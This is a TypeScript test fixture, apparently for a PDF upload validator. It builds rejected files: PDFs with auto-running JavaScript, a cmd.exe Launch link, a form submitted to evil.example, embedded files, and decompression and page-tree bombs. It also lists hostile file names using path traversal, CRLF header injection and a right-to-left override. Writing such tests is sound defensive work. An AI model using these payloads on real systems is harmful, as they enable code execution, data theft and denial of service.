@@ -1,0 +1,277 @@
+import { deflateSync } from 'node:zlib';
+import type { ProblemCode } from '../../src/contract/problem.ts';
+import { makePdf } from './pdfs.ts';
+import {
+  ONE_PAGE,
+  type RawObject,
+  objectStream,
+  packed,
+  rawPdf,
+  withCatalog,
+  withPage,
+} from './raw-pdf.ts';
+
+export type BadFile = {
+  readonly what: string;
+  readonly bytes: () => Promise<Uint8Array<ArrayBuffer>> | Uint8Array<ArrayBuffer>;
+  readonly code: ProblemCode;
+  readonly status: number;
+  /** A part of what the owner reads. */
+  readonly says: string | RegExp;
+  /** More than one request takes. */
+  readonly isLarge?: boolean;
+};
+
+const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...Array(100).fill(7)]);
+const text = (words: string) => new Uint8Array(Buffer.from(words, 'latin1'));
+
+const MEBIBYTE = 1024 * 1024;
+const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const ATTACHED = '<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>';
+const JAVASCRIPT = 'JavaScript';
+
+const cut = async (share: number) => {
+  const bytes = await makePdf({ pages: 20, packed: false });
+  return bytes.slice(0, Math.floor(share * bytes.byteLength));
+};
+
+const active = (what: string, objects: readonly RawObject[], says: string): BadFile => ({
+  what: `a PDF with ${what}`,
+  bytes: () => rawPdf(objects),
+  code: 'pdf_active_content',
+  status: 422,
+  says,
+});
+
+const annotation = (entries: string): string => `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`;
+
+const ACTIVE: readonly BadFile[] = [
+  active('a script that runs when it opens', withCatalog(`/OpenAction ${SCRIPT}`), JAVASCRIPT),
+  active(
+    'a script among its names',
+    withCatalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', SCRIPT),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script that runs when it is printed',
+    withCatalog(`/AA << /WP ${SCRIPT} >>`),
+    JAVASCRIPT,
+  ),
+  active('a script that runs when a page opens', withPage(`/AA << /O ${SCRIPT} >>`), JAVASCRIPT),
+  active(
+    'a script on a link',
+    withPage('/Annots [4 0 R]', annotation(`/Subtype /Link /A ${SCRIPT}`)),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script behind a harmless action',
+    withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>', SCRIPT),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script under an escaped name',
+    withCatalog('/OpenAction << /S /J#61va#53cript /#4a#53 (x) >>'),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script that is packed away',
+    withCatalog('/OpenAction 9 0 R', objectStream(new Map([[9, SCRIPT]]))),
+    JAVASCRIPT,
+  ),
+  active('a script that nothing refers to', [...ONE_PAGE, SCRIPT], JAVASCRIPT),
+  active(
+    'a script in the dictionary of a stream',
+    [...ONE_PAGE, packed('x', `/AA << /O ${SCRIPT} >>`)],
+    JAVASCRIPT,
+  ),
+  active(
+    'a link that starts a program',
+    withPage('/Annots [4 0 R]', annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>')),
+    'starts a program',
+  ),
+  active(
+    'a form that is sent away',
+    withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
+    'sends what is typed',
+  ),
+  active(
+    'a form that is a program',
+    withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', packed('<xdp/>')),
+    'a form that is a program',
+  ),
+  active(
+    'data to import',
+    withCatalog('/OpenAction << /S /ImportData /F (a.fdf) >>'),
+    'reads files',
+  ),
+  active('a link into an attachment', withCatalog('/OpenAction << /S /GoToE >>'), 'attached file'),
+  active(
+    'an embedded file',
+    withCatalog(
+      '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
+      ATTACHED,
+      packed('hello', '/Type /EmbeddedFile'),
+    ),
+    'other files attached',
+  ),
+  active(
+    'a file on a page',
+    withPage('/Annots [4 0 R]', annotation('/Subtype /FileAttachment')),
+    'other files attached',
+  ),
+  active('a film', withPage('/Annots [4 0 R]', annotation('/Subtype /RichMedia')), 'multimedia'),
+];
+
+/** So many bytes of nothing, packed, piece by piece: each kilobyte becomes a megabyte. */
+const nothing = (mebibytes: number, layers = 1): RawObject =>
+  packed(Buffer.alloc(mebibytes * MEBIBYTE), '', layers);
+
+const bomb = (what: string, bytes: () => Uint8Array<ArrayBuffer>): BadFile => ({
+  what: `a bomb: ${what}`,
+  bytes,
+  code: 'pdf_too_dense',
+  status: 422,
+  says: /^(The|One|A) /,
+});
+
+const BOMBS: readonly BadFile[] = [
+  bomb('one stream of 140 MB', () => rawPdf(withPage('/Contents 4 0 R', nothing(140)))),
+  bomb('12 streams of 60 MB', () => {
+    const one = nothing(60);
+    return rawPdf([...ONE_PAGE, ...Array<RawObject>(12).fill(one)]);
+  }),
+  bomb('packed twice', () => {
+    const { data } = packed(Buffer.alloc(140 * MEBIBYTE), '', 2);
+    return rawPdf([...ONE_PAGE, { dict: '/Filter [/FlateDecode /FlateDecode]', data }]);
+  }),
+  bomb('packed twice and said once', () => rawPdf([...ONE_PAGE, nothing(140, 2)])),
+  bomb('packed behind text', () => {
+    const data = Buffer.from(deflateSync(Buffer.alloc(140 * MEBIBYTE)).toString('hex') + '>');
+    return rawPdf([...ONE_PAGE, { dict: '/Filter [/ASCIIHexDecode /FlateDecode]', data }]);
+  }),
+  bomb('a stream of objects', () => {
+    const stream = packed(Buffer.alloc(40 * MEBIBYTE, ' '), '/Type /ObjStm /N 1 /First 4');
+    return rawPdf([...ONE_PAGE, stream]);
+  }),
+  bomb('a stream of objects that is packed twice', () => {
+    const { data } = packed('9 0 null', '', 2);
+    const dict = '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]';
+    return rawPdf([...ONE_PAGE, { dict, data }]);
+  }),
+  bomb('a picture of 90,000 by 90,000', () =>
+    rawPdf([...ONE_PAGE, packed('x', '/Subtype /Image /Width 90000 /Height 90000')]),
+  ),
+  bomb('objects without number', () =>
+    rawPdf([...ONE_PAGE, ...Array<RawObject>(100_000).fill('1')]),
+  ),
+  bomb('values without number', () => rawPdf([...ONE_PAGE, `[${'0 '.repeat(2_100_000)}]`])),
+  bomb('a word without an end', () => rawPdf([...ONE_PAGE, `(${'x'.repeat(2 * MEBIBYTE)})`])),
+];
+
+const broken = (what: string, bytes: BadFile['bytes']): BadFile => ({
+  what,
+  bytes,
+  code: 'pdf_broken',
+  status: 422,
+  says: 'export it again',
+});
+
+const manyPages = (count: number): Uint8Array<ArrayBuffer> => {
+  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
+  const pages = Array<string>(count).fill(ONE_PAGE[2]);
+  return rawPdf([ONE_PAGE[0], `<< /Type /Pages /Kids [${kids}] /Count 1 >>`, ...pages]);
+};
+
+/** Every kind of file that no buyer may ever get, and why. */
+export const BAD_FILES: readonly BadFile[] = [
+  {
+    what: 'a renamed PNG',
+    bytes: () => PNG,
+    code: 'file_not_pdf',
+    status: 415,
+    says: 'Please upload a PDF file.',
+  },
+  {
+    what: 'an empty file',
+    bytes: () => new Uint8Array(),
+    code: 'file_empty',
+    status: 422,
+    says: 'empty',
+  },
+  broken('an HTML page with the header of a PDF', () =>
+    text('%PDF-1.7\n<html><script>alert(1)</script></html>'),
+  ),
+  broken('an HTML page with header and end of a PDF', () =>
+    text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF'),
+  ),
+  ...[0.02, 0.3, 0.7, 0.99].map((share) =>
+    broken(`a PDF cut off at ${share * 100} %`, () => cut(share)),
+  ),
+  broken('a PDF without pages', () =>
+    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] >>']),
+  ),
+  broken('a PDF whose pages go round in a circle', () =>
+    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] >>']),
+  ),
+  broken('a PDF nested too deeply to read', () => rawPdf([...ONE_PAGE, '['.repeat(200_000)])),
+  {
+    what: 'an encrypted PDF',
+    bytes: () =>
+      makePdf({}, (document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
+    code: 'pdf_encrypted',
+    status: 422,
+    says: 'protected',
+  },
+  {
+    what: 'a PDF that only its owner may change',
+    bytes: () => makePdf({ packed: false }, (document) => document.encrypt({ ownerPassword: 'b' })),
+    code: 'pdf_encrypted',
+    status: 422,
+    says: 'protected',
+  },
+  {
+    what: 'a PDF of 5,000 pages',
+    bytes: () => manyPages(5000),
+    code: 'pdf_too_many_pages',
+    status: 422,
+    says: '5000 pages',
+  },
+  {
+    what: 'a PDF that shows one page 2^40 times',
+    bytes: () =>
+      rawPdf([
+        ONE_PAGE[0],
+        ...Array.from(
+          { length: 40 },
+          (_, n) => `<< /Type /Pages /Kids [${n + 3} 0 R ${n + 3} 0 R] /Count 1 >>`,
+        ),
+        '<< /Type /Page >>',
+      ]),
+    code: 'pdf_too_many_pages',
+    status: 422,
+    says: '1099511627776 pages',
+  },
+  {
+    what: 'a PDF of 19 MB',
+    bytes: () => rawPdf([...ONE_PAGE, { dict: '', data: new Uint8Array(19 * MEBIBYTE) }]),
+    code: 'file_too_large',
+    status: 413,
+    says: 'MB',
+    isLarge: true,
+  },
+  ...ACTIVE,
+  ...BOMBS,
+];
+
+/** Names that a file may have had, and none of them is kept. */
+export const BAD_NAMES: readonly (readonly [what: string, name: string])[] = [
+  ['a way up', '../../Money-Smart-Kids-Ages-6-10.pdf'],
+  ['a way up of Windows', '..\\guide.pdf'],
+  ['a NUL', 'guide.pdf\0.png'],
+  ['a line feed', 'guide\n.pdf'],
+  ['a carriage return', 'guide\r\nset-cookie: a=b.pdf'],
+  ['300 characters', `${'x'.repeat(296)}.pdf`],
+  ['a mark that turns what follows around', 'guide\u202efdp.exe'],
+  ['nothing but a blank', ' '],
+  ['nothing at all', ''],
+];
